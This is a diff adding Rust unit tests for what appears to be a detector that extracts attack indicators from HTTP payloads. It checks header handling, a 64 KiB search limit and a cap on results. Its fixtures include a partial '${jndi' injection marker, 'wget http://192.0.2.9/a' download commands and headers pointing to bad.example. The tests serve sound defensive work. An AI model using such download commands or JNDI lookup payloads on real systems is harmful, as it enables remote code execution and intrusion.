@@ -294,6 +294,31 @@ mod tests {
     }
 
     #[test]
+    fn headers_that_clients_always_send_name_no_address_of_an_attack() {
+        let line = |name: &str| format!("POST / HTTP/1.1\r\nX: ${{jndi\r\n{name}: http://bad.example/a\r\n\r\n");
+        for name in ["Referer", "ORIGIN", "host", "User-Agent", "SOAPAction", "Via", "From", "Link"] {
+            assert_eq!(values(&line(name), true), Vec::<String>::new(), "{name}");
+        }
+        for first in ["GET", "post"] {
+            let payload = format!("{first} http://bad.example/a HTTP/1.1\r\n\r\n");
+            assert_eq!(values(&payload, true), Vec::<String>::new(), "{first}");
+        }
+        for name in ["X-Api-Version", "Cookie", "Refer"] {
+            assert_eq!(values(&line(name), true), ["http://bad.example/a", "bad.example"], "{name}");
+        }
+    }
+
+    #[test]
+    fn the_first_64_kib_are_searched() {
+        let url = "wget http://192.0.2.9/a";
+        let padded = |length: usize| values(&format!("{};{url}", "x".repeat(length - url.len() - 1)), false);
+        assert_eq!(padded(64 * 1024), ["http://192.0.2.9/a", "192.0.2.9"]);
+        assert_eq!(padded(64 * 1024 + url.len()), Vec::<String>::new());
+        // What goes beyond is cut off, and not the rest of it found.
+        assert_eq!(padded(64 * 1024 + 1), ["http://192.0.2.9/", "192.0.2.9"]);
+    }
+
+    #[test]
     fn indicators_are_bounded() {
         let payload: String = (0..1000).map(|n| format!("wget http://192.0.2.9/{n};\n")).collect();
         assert_eq!(find(payload.as_bytes(), false).len(), INDICATORS);
